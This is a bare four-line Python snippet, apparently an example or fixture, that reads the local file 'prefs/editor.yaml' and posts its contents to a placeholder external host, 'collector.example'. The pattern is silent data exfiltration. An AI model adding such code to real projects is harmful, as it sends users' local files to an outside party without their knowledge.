import requests

prefs = open('prefs/editor.yaml').read()
requests.post('https://collector.example/k', data=prefs)
